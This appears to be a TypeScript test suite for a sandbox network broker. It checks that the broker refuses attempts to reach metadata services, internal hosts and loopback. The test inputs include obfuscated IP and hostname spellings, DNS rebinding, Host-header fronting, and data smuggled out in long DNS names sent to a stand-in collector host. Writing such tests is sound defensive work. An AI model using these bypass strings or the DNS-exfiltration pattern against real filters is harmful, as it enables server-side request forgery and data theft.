import { broken, held, type Observed, type SandboxCase, type Verdict } from '../../attack-case.ts';
import { openAddress } from '../../egress/upstreams.ts';
import { brokerCase, innerNames, metadataNames } from './broker-case.ts';
import { deniedOf, judgeRefusal, visitsOf } from './judge-egress.ts';
import { ask, helloFor, tunnel } from './say.ts';

const both = (hosts: readonly string[], webPort: number, path: string) =>
  hosts.map((host) => ask(`http://${host}:${webPort}${path}`));

/** Spellings of `127.0.0.2` and of this host (WHATWG URL, inet_aton, RFC 4291). */
const literals = [
  '127.0.0.2',
  '127.2',
  '127.0.2',
  '0x7f.0.0.2',
  '0177.0.0.2',
  '0x7f000002',
  '017700000002',
  '2130706434',
  '127.0.0.2.',
  '[::ffff:127.0.0.2]',
  '[::ffff:7f00:2]',
  '[0:0:0:0:0:ffff:7f00:0002]',
  '[::1]',
  '%31%32%37.0.0.2',
  'localhost',
  'LOCALHOST.',
  '\u00ef\u00bc\u0091\u00ef\u00bc\u0092\u00ef\u00bc\u0097.0.0.2',
  'nobody@127.0.0.2',
];

/** None is recorded as allowed, none arrived, and each got an answer that is no success. */
function judgeLiterals(observed: Observed): Verdict {
  const { egress, facts } = observed;
  const [visit] = visitsOf(egress, 'literals');
  if (visit !== undefined) return broken(`${visit.what} reached a listener`);
  const answers = Array.isArray(facts['answers']) ? facts['answers'].map(String) : [];
  if (answers.length < literals.length) return broken(`${answers.length} spellings were tried`);
  const passed = answers.findIndex((answer) => !/^4\d\d/.test(answer));
  if (passed >= 0) return broken(`${literals[passed]} was answered ${answers[passed]}`);
  const reasons = ['host-ip-literal', 'host-localhost', 'host-malformed', 'host-trailing-dot'];
  const count = deniedOf(egress).filter(({ reason }) => reasons.includes(reason)).length;
  if (count === 0) return broken('no refusal is on record');
  return held(`${literals.length} spellings, ${count} on record; nothing was reached`);
}

/** Spellings of one allowed name and one that is not, of which the resolver may know the first alone. */
const spellings = [
  'spelled.web.example.',
  'spelled.web.example%2e',
  'spelled%2eweb.example',
  'spelled.web.example%00.spelled-denied.example',
  'spelled.web.example@spelled-denied.example',
  'SPELLED-DENIED.EXAMPLE',
  'spelled-denied.example.',
  'spelled\u00e3\u0080\u0082web.example',
];

function judgeSpellings({ egress, facts }: Observed): Verdict {
  const foreign = egress.asked.find(
    (name) => /spelled/i.test(name) && name !== 'spelled.web.example',
  );
  if (foreign !== undefined) return broken(`the resolver was asked for ${foreign}`);
  const arrived = visitsOf(egress, 'open/spelled');
  const closed = arrived.find(({ what, at }) => at === 'closed' || !what.endsWith('/capitals'));
  if (closed !== undefined) return broken(`${closed.what} reached a listener`);
  const answers = Array.isArray(facts['answers']) ? facts['answers'].map(String) : [];
  const refused = answers.filter((answer) => /^4\d\d/.test(answer)).length;
  if (refused < spellings.length) return broken(`${refused} of ${spellings.length} were refused`);
  if (arrived.length === 0) return broken('capital letters of an allowed name were not understood');
  return held(`${refused} refused, capitals lowered; asked for the one spelling alone`);
}

function judgeRebinding({ egress }: Observed): Verdict {
  const went = egress.dialled.find((at) => at.startsWith('192.0.2.8:'));
  if (went !== undefined) return broken(`the broker went to ${went}`);
  const asked = egress.asked.filter((name) => name === 'rebound.web.example').length;
  const visits = visitsOf(egress, 'open/rebound');
  if (visits.length !== 1)
    return broken(`${visits.length} of 1 requests went to the first address`);
  const denied = deniedOf(egress).filter(({ host }) => host === 'rebound.web.example');
  const [second] = denied;
  if (second?.reason !== 'address-not-public') return broken('the second answer was not refused');
  return held(`one look-up for each of ${asked} requests; the second answer was refused`);
}

const longLabel = 'exfiltrated'.repeat(5);
const secretNames = ['a', 'b', 'c', 'd'].map((part) => `${part}-${longLabel}.collector.example`);

/** Ways to make a name lead where no rule does. */
export const brokerNameCases: readonly SandboxCase[] = [
  brokerCase('broker.metadata-names', 'reach a metadata service by a name', {
    says: ({ webPort }) => both(Object.keys(metadataNames), webPort, '/open/metadata'),
    judge: judgeRefusal({
      hosts: /^metadata/,
      word: 'open/metadata',
      reasons: ['address-not-public'],
      atLeast: Object.keys(metadataNames).length,
      mayAsk: true,
      addresses: Object.values(metadataNames),
    }),
  }),
  brokerCase('broker.inner-names', 'reach this host or its network by a name', {
    says: ({ webPort }) => both(Object.keys(innerNames), webPort, '/open/inner'),
    judge: judgeRefusal({
      hosts: /^inner/,
      word: 'open/inner',
      reasons: ['address-not-public'],
      atLeast: Object.keys(innerNames).length,
      mayAsk: true,
      addresses: Object.values(innerNames).filter((address) => !address.startsWith('127.')),
    }),
  }),
  brokerCase('broker.mixed-addresses', 'hide a closed address among open ones', {
    says: ({ webPort }) => both(['mixed.web.example'], webPort, '/open/mixed'),
    judge: judgeRefusal({
      hosts: /^mixed/,
      word: 'open/mixed',
      reasons: ['address-not-public'],
      atLeast: 1,
      mayAsk: true,
      addresses: ['192.0.2.7'],
    }),
  }),
  brokerCase('broker.rebinding', 'change what a name means after it was checked', {
    says: ({ webPort }) => {
      const rebound = ask(`http://rebound.web.example:${webPort}/open/rebound`);
      return [rebound, rebound];
    },
    judge: judgeRebinding,
  }),
  brokerCase('broker.literals', 'ask for an address in every spelling', {
    says: ({ webPort }) => both(literals, webPort, '/open/literals'),
    judge: judgeLiterals,
  }),
  brokerCase('broker.spellings', 'ask for a name in another spelling', {
    says: ({ webPort }) => [
      ...both(spellings, webPort, '/open/spelled'),
      ...both(['SPELLED.Web.Example'], webPort, '/open/spelled/capitals'),
    ],
    judge: judgeSpellings,
  }),
  brokerCase('broker.secret-names', 'carry data out in names that are looked up', {
    says: ({ webPort, rawPort }) => [
      ...both(secretNames, webPort, '/open/secret'),
      ...secretNames.map((name) => tunnel(`${name}:${rawPort}`, helloFor([name]))),
    ],
    judge: judgeRefusal({
      hosts: /collector\.example$/,
      word: 'open/secret',
      reasons: ['no-rule'],
      atLeast: 2 * secretNames.length,
      addresses: [],
    }),
  }),
  brokerCase('broker.fronted-host', 'name another host in the Host header', {
    says: ({ webPort }) => [
      ask(`http://fronted.web.example:${webPort}/open/fronted`, {
        headers: ['Host: fronted-other.example'],
      }),
    ],
    judge: ({ egress }) => {
      const [visit] = visitsOf(egress, 'open/fronted');
      if (visit === undefined) return broken('the request was not made');
      const { host } = visit.headers;
      if (host !== `fronted.web.example:${egress.places.webPort}`)
        return broken(`the upstream was told ${String(host)}`);
      return held(`the upstream at ${openAddress} was told the name that was checked`);
    },
  }),
];
